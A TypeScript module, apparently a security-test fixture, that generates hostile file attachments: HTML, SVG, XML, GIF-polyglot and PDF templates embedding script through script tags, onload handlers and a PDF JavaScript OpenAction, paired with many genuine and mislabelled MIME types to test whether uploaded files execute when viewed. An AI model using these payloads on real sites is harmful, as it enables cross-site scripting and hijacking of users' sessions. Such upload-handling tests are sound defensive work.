// Attachments whose view in the browser would run: types that are documents, bytes that are not what they say they are.
import type { Seed } from '../payloads'

export interface Hostile {
  type: string
  name: string
  data: Seed
}

const page: Seed = ({ run }) => `<!doctype html><script>${run}</script><body onload=${run}>x`
const svg: Seed = ({ run }) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`
const xhtml: Seed = ({ run }) => `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`
const xml: Seed = ({ run }) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><a:script xmlns:a="http://www.w3.org/1999/xhtml">${run}</a:script>`
const gif: Seed = ({ run }) => `GIF89a/*<script>${run}</script>*/=0;`
const pdf: Seed = ({ run }) => `%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(${run})>>>>endobj\ntrailer<</Root 1 0 R>>`
const script: Seed = ({ run }) => run

const of = (type: string, data: Seed, name: string): Hostile => ({ type, data, name })
export const parts: Hostile[] = [
  ...['text/html', 'TEXT/HTML', 'text/html; charset=utf-7', 'text/html;x=y', 'text/html-sandboxed', 'application/xhtml+xml', 'text/xml', 'application/xml', 'application/rss+xml', 'text/xsl', 'application/xslt+xml', 'multipart/x-mixed-replace', 'message/rfc822x', 'text/x-server-parsed-html'].map((type, n) =>
    of(type, [page, xhtml, xml][n % 3] ?? page, `page-${n}.html`),
  ),
  ...['image/svg+xml', 'IMAGE/SVG+XML', 'image/svg', 'image/svg+xml; charset=utf-8', 'application/mathml+xml'].map((type, n) => of(type, svg, `drawing-${n}.svg`)),
  ...['image/png', 'image/gif', 'image/jpeg', 'image/webp', 'text/plain', 'application/octet-stream', '', 'x', 'image', '*/*', 'application/unknown', 'video/mp4', 'audio/mpeg', 'text/css', 'font/woff2', 'application/json'].map((type, n) =>
    of(type, n % 2 ? gif : page, `pretender-${n}.png`),
  ),
  ...['application/pdf', 'application/x-pdf', 'text/pdf'].map((type, n) => of(type, pdf, `paper-${n}.pdf`)),
  ...['text/javascript', 'application/javascript', 'text/cache-manifest', 'application/manifest+json', 'application/x-shockwave-flash', 'application/java-archive'].map((type, n) => of(type, script, `code-${n}.js`)),
]
